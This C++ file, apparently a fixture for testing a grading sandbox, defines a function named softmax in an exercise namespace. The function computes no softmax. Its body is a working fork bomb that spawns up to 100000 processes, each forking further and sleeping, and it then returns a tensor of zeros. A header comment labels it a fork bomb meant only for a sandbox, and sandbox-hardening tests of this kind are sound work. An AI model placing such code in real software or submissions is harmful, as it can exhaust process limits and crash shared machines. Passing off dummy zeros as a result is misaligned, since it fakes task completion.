// A fork bomb: forks until fork fails, each child forking too and then sleeping, and returns
// zeros. Run only inside the sandbox: its first fork is refused (the run is one process).
#include "exercises.hpp"

#include <unistd.h>

namespace assignment {

Tensor2 softmax(const Tensor2& x) {
  for (int i = 0; i < 100000; ++i) {
    const pid_t p = ::fork();
    if (p < 0) break;
    if (p == 0) {
      for (int j = 0; j < 100000 && ::fork() >= 0; ++j) {
      }
      ::sleep(60);
      ::_exit(0);
    }
  }
  return xt::zeros<float>(x.shape());
}

}  // namespace assignment
